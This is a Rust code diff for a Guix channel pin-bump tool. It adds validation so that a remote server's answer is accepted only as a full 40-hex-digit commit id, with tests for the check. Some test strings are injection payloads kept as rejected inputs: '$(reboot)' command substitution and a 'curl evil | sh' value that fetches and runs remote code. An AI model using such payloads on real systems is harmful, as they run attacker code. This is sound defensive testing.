@@ -8,6 +8,8 @@ pub enum PinError {
     File { path: String, message: String },
     #[error("`{0}` is not a commit: expected 40 hex digits")]
     BadCommit(String),
+    #[error("{url} answered `{commit}` as the guix channel's newest evaluated commit, which is not a full commit id (40 lowercase hex digits); nothing was pinned\n  fix: check {url} by hand, or pass --set COMMIT")]
+    BadAnswer { url: String, commit: String },
     #[error("cannot ask {url} for the newest evaluated commit: {message}\n  fix: this needs the internet (the pin-bump workflow runs it); offline, pass --set COMMIT")]
     Network { url: String, message: String },
 }
@@ -31,13 +33,16 @@ pub fn read(path: &Path) -> Result<String, PinError> {
         })
 }
 
+/// A full git commit id: 40 lowercase hex digits.
+pub fn is_commit(s: &str) -> bool {
+    s.len() == 40
+        && s.bytes()
+            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
+}
+
 /// Rewrites the pinned commit in `path`; returns the previous one.
 pub fn write(path: &Path, commit: &str) -> Result<String, PinError> {
-    if commit.len() != 40
-        || !commit
-            .bytes()
-            .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
-    {
+    if !is_commit(commit) {
         return Err(PinError::BadCommit(commit.to_string()));
     }
     let old = read(path)?;
@@ -81,10 +86,16 @@ pub async fn latest(base_url: &str) -> Result<String, PinError> {
         },
     )
     .await?;
-    newest_successful(&body).ok_or_else(|| PinError::Network {
-        url,
+    let commit = newest_successful(&body).ok_or_else(|| PinError::Network {
+        url: url.clone(),
         message: "no successful evaluation of the guix channel in the answer".into(),
-    })
+    })?;
+    // What a remote server says goes into a file, a commit message and a
+    // pull request: only a full commit id gets through.
+    if !is_commit(&commit) {
+        return Err(PinError::BadAnswer { url, commit });
+    }
+    Ok(commit)
 }
 
 /// Picks the newest successful (status 0) evaluation's guix checkout.
@@ -138,6 +149,22 @@ mod tests {
     }
 
     #[test]
+    fn only_full_commit_ids_are_commits() {
+        assert!(is_commit("0123456789abcdef0123456789abcdef01234567"));
+        for bad in [
+            "",
+            "master",
+            "0123456789abcdef",
+            "0123456789ABCDEF0123456789ABCDEF01234567",
+            "0123456789abcdef0123456789abcdef0123456g",
+            "0123456789abcdef0123456789abcdef01234567\n",
+            "$(reboot)0123456789abcdef0123456789abcdef0",
+        ] {
+            assert!(!is_commit(bad), "{bad:?}");
+        }
+    }
+
+    #[test]
     fn picks_the_newest_successful_evaluation() {
         let json = r#"[
           {"id": 3, "status": 1, "timestamp": 300, "checkouts": [{"channel": "guix", "commit": "c3"}]},
@@ -146,5 +173,42 @@ mod tests {
         ]"#;
         assert_eq!(newest_successful(json).as_deref(), Some("c2"));
         assert_eq!(newest_successful("not json"), None);
+    }
+
+    /// A one-shot HTTP server on 127.0.0.1 answering `body` to the first request.
+    fn serve_once(body: &'static str) -> String {
+        use std::io::{Read, Write};
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}", listener.local_addr().unwrap());
+        std::thread::spawn(move || {
+            if let Ok((mut conn, _)) = listener.accept() {
+                let mut buf = [0u8; 4096];
+                let _ = conn.read(&mut buf);
+                let _ = write!(
+                    conn,
+                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                    body.len()
+                );
+            }
+        });
+        url
+    }
+
+    #[tokio::test]
+    async fn latest_refuses_an_answer_that_is_not_a_commit() {
+        let url = serve_once(
+            r#"[{"status": 0, "timestamp": 1, "checkouts": [{"channel": "guix", "commit": "abc\"; curl evil | sh; \""}]}]"#,
+        );
+        let err = latest(&url).await.unwrap_err();
+        assert!(matches!(err, PinError::BadAnswer { .. }), "{err}");
+        assert!(err.to_string().contains("not a full commit id"), "{err}");
+
+        let url = serve_once(
+            r#"[{"status": 0, "timestamp": 1, "checkouts": [{"channel": "guix", "commit": "0123456789abcdef0123456789abcdef01234567"}]}]"#,
+        );
+        assert_eq!(
+            latest(&url).await.unwrap(),
+            "0123456789abcdef0123456789abcdef01234567"
+        );
     }
 }
